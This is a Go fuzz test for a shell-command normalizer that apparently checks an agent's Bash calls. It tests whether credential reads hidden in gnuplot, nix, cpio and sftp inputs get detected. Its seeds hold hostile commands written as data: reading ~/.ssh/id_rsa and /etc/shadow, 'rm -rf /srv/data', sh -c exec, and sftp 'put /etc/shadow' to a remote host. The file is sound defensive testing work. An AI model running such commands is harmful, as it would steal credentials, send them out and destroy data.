package normalize

import (
	"strings"
	"testing"
)

// FuzzExprAndNameLists feeds arbitrary text to the two readers of wave 8: code of a language
// without a grammar (gnuplot -e, nix eval --expr; inline_escapes.go) and a list of names on
// standard input (cpio -o, tar -T -; name_lists.go) and a transfer script (sftp -b -; xfer_commands.go). No input may panic; and whatever surrounds
// it, a credential path written as a word of the text (a line of a list, "put PATH" in a
// transfer script) is seen: a read of it, or the call is
// unresolved (never allowed without review). Seeds: the unit tests' code and lists.
func FuzzExprAndNameLists(f *testing.F) {
	opt := specOpts(f, Options{Workspace: "/home/user/project", Home: "/home/user"})
	opt.Inline = inlineTestList(f)
	n := New(nil, opt)
	seeds := []string{
		`system("cat ~/.ssh/id_rsa")`, "print `id`", "!rm -rf /srv/data", `c="x"; system(c)`,
		"plot sin(x)", "if (a != b) print 1", "builtins.readFile /etc/shadow", `builtins.exec ["sh" "-c" "id"]`,
		"builtins.fetchurl https://drop.example/x", "/home/user/.netrc\n/etc/shadow\n", "src/a.go\x00src/b.go",
		"put /etc/shadow", "get a.log; !id\nmput x y", "lcd /tmp\nput /etc/shadow",
		`system('a\'b')`, "`", "!", "system(", `popen "`, "\x00\xff'\"`$HOME/.netrc",
	}
	for _, s := range seeds {
		for w := uint8(0); w < 4; w++ {
			f.Add(w, s)
		}
	}
	f.Fuzz(func(t *testing.T, which uint8, text string) {
		if len(text) > 4096 || strings.ContainsAny(text, "'") && which%4 < 2 {
			return // the command is built with single quotes around the text
		}
		var cmd string
		switch which % 4 {
		case 0:
			cmd = "gnuplot -e '" + text + "'"
		case 1:
			cmd = "nix eval --impure --expr '" + text + "'"
		case 2:
			cmd = "cpio -o <<'EOF'\n" + text + "\nEOF"
		default:
			cmd = "sftp -b - u@198.51.100.8 <<'EOF'\n" + text + "\nEOF"
		}
		a := n.Normalize("Bash", map[string]any{"command": cmd}, "")
		if a.ParseError != "" || a.Truncated {
			return
		}
		// In a list a name is a whole line (names may hold spaces); in Nix code, a word.
		sep := func(r rune) bool { return r == '\n' || r == '\r' || r == 0 }
		if which%4 == 3 {
			// A transfer script: "put /etc/shadow" as a whole command.
			sep = func(r rune) bool { return r == '\n' || r == ';' }
			text = strings.ReplaceAll(text, "put /etc/shadow", "/etc/shadow")
		}
		if which%4 == 1 {
			sep = func(r rune) bool { return r == ' ' || r == '\n' || r == '\t' }
		}
		word := false
		for _, fld := range strings.FieldsFunc(text, sep) {
			if strings.TrimSpace(fld) == "/etc/shadow" {
				word = true
			}
		}
		if !word || which%4 == 0 {
			return // gnuplot reads no bare paths; only its escapes
		}
		if len(a.Unresolved) > 0 {
			return
		}
		for _, e := range a.Effects {
			if e.Kind == EffectRead && e.Target == "/etc/shadow" {
				return
			}
		}
		t.Fatalf("%q: /etc/shadow neither read nor unresolved: %+v", cmd, a.Effects)
	})
}
